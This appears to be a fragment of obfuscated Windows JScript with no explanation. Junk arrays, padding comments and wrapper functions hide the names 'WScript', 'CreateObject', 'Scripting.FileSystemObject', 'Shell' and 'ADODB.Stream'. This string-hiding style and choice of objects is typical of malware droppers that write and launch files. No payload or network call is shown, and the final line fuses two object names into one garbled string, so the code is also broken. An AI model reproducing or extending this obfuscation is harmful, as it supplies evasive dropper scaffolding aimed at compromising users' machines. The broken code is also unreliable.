var a = [Infinity, Number(6), "WScr", /*pad*/ , true][2] + "ipt";
var b = ['q', WScript][1][["x", ["y", "Cre"][1]][1] + 'ateObject'];
var c = new ActiveXObject([true, ["Scr", "z"], 1][1][0] + 'ipting.FileSystemObject');
var d = [Number(4), 'Sh', Infinity];
function e() {
	return [ /*x*/ , /*y*/ , "ell", /*z*/ ];
}
function f() { var v = 'ADODB.'; return v; }
function w(v) { return v; }
x = d[1] + e()[[ /*q*/ , 2][1]] + f() + w('Stream');
